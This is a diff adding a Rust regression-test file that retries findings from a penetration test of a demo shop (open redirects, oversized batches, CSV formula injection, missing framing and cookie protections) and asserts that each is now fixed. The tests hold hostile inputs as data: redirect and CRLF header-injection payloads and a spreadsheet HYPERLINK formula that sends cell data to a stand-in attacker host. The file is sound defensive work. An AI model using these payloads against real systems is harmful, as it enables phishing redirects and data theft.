@@ -1,0 +1,231 @@
+//! The holes a penetration test of the demo shop found (issue #18), each tried again from the
+//! attacker's side against a real server: what the public write key, a stranger's browser or a
+//! crafted link can do, and that it now does no harm.
+
+use reqwest::Method;
+use serde_json::{Value, json};
+
+use crate::common::{TestApp, console_cookie, csrf_of, urlencode};
+
+fn no_redirects() -> reqwest::Client {
+    reqwest::Client::builder()
+        .redirect(reqwest::redirect::Policy::none())
+        .build()
+        .unwrap()
+}
+
+/// Finding 4: `next` sent a signed-in person to another site (browsers drop the tab in
+/// `/%09/evil.example` and go to `//evil.example`), and a line break in it answered 500.
+#[tokio::test]
+async fn next_never_leaves_the_site_and_never_fails() {
+    let app = TestApp::spawn().await;
+    let client = no_redirects();
+    for next in [
+        "/%09/evil.example",
+        "/%0a/evil.example",
+        "/%20/evil.example",
+        "//evil.example",
+        "/%5Cevil.example",
+        "https://evil.example",
+        "%0d%0aSet-Cookie:%20x=1",
+        "/%E2%80%8B/evil.example",
+    ] {
+        let res = client
+            .get(app.url(&format!("/lang/en?next={next}")))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(res.status(), 303, "next={next}");
+        let to = res.headers()["location"].to_str().unwrap();
+        assert!(
+            !to.contains("evil") && !to.starts_with("//"),
+            "next={next} went to {to}"
+        );
+        assert!(
+            res.headers()
+                .get("set-cookie")
+                .is_some_and(|c| !c.to_str().unwrap().contains("x=1"))
+        );
+    }
+    // A path of the site stays as it was.
+    let res = client
+        .get(app.url("/lang/en?next=/customers%3Fq%3Dkim"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.headers()["location"], "/customers?q=kim");
+
+    // After signing in, too.
+    let page = client
+        .get(app.url("/login"))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let csrf = csrf_of(&page);
+    let res = client
+        .post(app.url("/login"))
+        .header("cookie", format!("dangol_login_csrf={csrf}"))
+        .header("content-type", "application/x-www-form-urlencoded")
+        .body(format!(
+            "name=admin&password=test-admin-password&csrf={csrf}&next={}",
+            urlencode("/\t/evil.example")
+        ))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), 303);
+    assert_eq!(res.headers()["location"], "/");
+}
+
+/// Finding 5: a 500 KB batch of 250,000 invalid items answered a 31.7 MB error body and held
+/// ~90 MB per request. A request now holds at most 1,000 messages, and an answer lists the first
+/// 100 rejected ones and counts the rest; the valid ones are stored.
+#[tokio::test]
+async fn a_batch_cannot_make_the_server_write_or_hold_much() {
+    let app = TestApp::spawn().await;
+    let items: Vec<Value> = (0..250_000).map(|_| json!(0)).collect();
+    let res = app.send("/v1/batch", json!({ "batch": items })).await;
+    assert_eq!(res.status(), 413);
+    let body = res.bytes().await.unwrap();
+    assert!(body.len() < 1_000, "{} bytes", body.len());
+    let e: Value = serde_json::from_slice(&body).unwrap();
+    assert_eq!(e["error"]["field"], "batch");
+
+    // 300 bad messages and one good one: the good one is stored, 100 are listed, 300 counted.
+    let mut items: Vec<Value> = (0..300)
+        .map(|i| json!({"type": "track", "userId": format!("u{i}")}))
+        .collect();
+    items.push(json!({"type": "track", "userId": "good", "event": "Signed Up"}));
+    let res = app.send("/v1/batch", json!({ "batch": items })).await;
+    assert_eq!(res.status(), 400);
+    let e: Value = res.json().await.unwrap();
+    assert_eq!(e["accepted"], 1);
+    assert_eq!(e["rejected_count"], 300);
+    assert_eq!(e["rejected"].as_array().unwrap().len(), 100);
+    assert_eq!(e["rejected"][0]["field"], "batch[0].event");
+    assert_eq!(app.customer("user_id", "good").await["stats"]["events"], 1);
+}
+
+/// Finding 7: a name or user id anyone can send with the write key came out raw in the CSV files
+/// staff open in a spreadsheet, where `=HYPERLINK(…)` is a formula.
+#[tokio::test]
+async fn csv_exports_do_not_carry_formulas() {
+    let app = TestApp::spawn().await;
+    let evil = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")";
+    let res = app
+        .send(
+            "/v1/identify",
+            json!({"userId": evil, "traits": {"name": "@SUM(1+1)", "email": "-2+3@example.com"}}),
+        )
+        .await;
+    assert_eq!(res.status(), 200);
+    let id = app.customer("user_id", evil).await["id"].as_u64().unwrap();
+
+    // A segment's members.
+    let seg: Value = app
+        .admin(Method::POST, "/segments")
+        .json(&json!({"name": "everyone", "rule": {"attr": "orders_count", "op": ">=", "value": 0}, "live": true}))
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    // The console's export of the members as they are now (the API's members.csv writes the same
+    // file, from the nightly membership).
+    let cookie = console_cookie(&app, "admin", "test-admin-password").await;
+    let csv = app
+        .client
+        .get(app.url(&format!("/segments/{}/members.csv?date=now", seg["id"])))
+        .header("cookie", &cookie)
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let row = csv.lines().nth(1).unwrap_or_else(|| panic!("{csv}"));
+    assert!(row.contains("\"'=HYPERLINK("), "{row}");
+    assert!(
+        row.contains(",'@SUM(1+1),") && row.contains(",'-2+3@example.com,"),
+        "{row}"
+    );
+
+    // A coupon's codes, through the console.
+    let coupon: Value = app
+        .admin(Method::POST, "/coupons")
+        .json(&json!({"name": "c", "discount": {"type": "fixed", "amount": 1000}, "prefix": "C"}))
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    let issued = app
+        .admin(Method::POST, &format!("/coupons/{}/issue", coupon["id"]))
+        .json(&json!({"customers": [id]}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(issued.status(), 200, "{}", issued.text().await.unwrap());
+    let csv = app
+        .client
+        .get(app.url(&format!("/coupons/{}/codes.csv", coupon["id"])))
+        .header("cookie", &cookie)
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let row = csv.lines().nth(1).unwrap_or_else(|| panic!("{csv}"));
+    assert!(
+        row.contains("\"'=HYPERLINK(") && row.contains(",'-2+3@example.com,"),
+        "{row}"
+    );
+}
+
+/// Finding 9: console pages could be framed (clickjacking), sniffed, and leaked full URLs in
+/// Referer; cookies lacked `Secure` behind HTTPS.
+#[tokio::test]
+async fn console_pages_cannot_be_framed_and_cookies_stay_on_https() {
+    let app = TestApp::spawn().await;
+    let client = no_redirects();
+    for path in ["/login", "/", "/customers", "/static/app.css"] {
+        let res = client.get(app.url(path)).send().await.unwrap();
+        let h = res.headers();
+        assert_eq!(h["x-frame-options"], "DENY", "{path}");
+        assert_eq!(h["x-content-type-options"], "nosniff", "{path}");
+        assert_eq!(h["referrer-policy"], "same-origin", "{path}");
+        let csp = h["content-security-policy"].to_str().unwrap();
+        assert!(
+            csp.contains("frame-ancestors 'none'") && csp.contains("default-src 'self'"),
+            "{path}: {csp}"
+        );
+    }
+    // Plain HTTP on loopback: no Secure (the browser would drop the cookie); behind a TLS proxy: Secure.
+    let plain = client.get(app.url("/login")).send().await.unwrap();
+    assert!(!plain.headers()["set-cookie"].to_str().unwrap().contains("Secure"));
+    let https = client
+        .get(app.url("/login"))
+        .header("x-forwarded-proto", "https")
+        .send()
+        .await
+        .unwrap();
+    for c in https.headers().get_all("set-cookie") {
+        assert!(c.to_str().unwrap().ends_with("; Secure"), "{c:?}");
+    }
+    // Or when the shop says it is reached over https.
+    let res = app
+        .admin(Method::PUT, "/settings/messaging")
+        .json(&json!({"public_url": "https://dangol.shop.example"}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), 200, "{}", res.text().await.unwrap());
+    let res = client.get(app.url("/lang/en?next=/")).send().await.unwrap();
+    assert!(res.headers()["set-cookie"].to_str().unwrap().ends_with("; Secure"));
+}
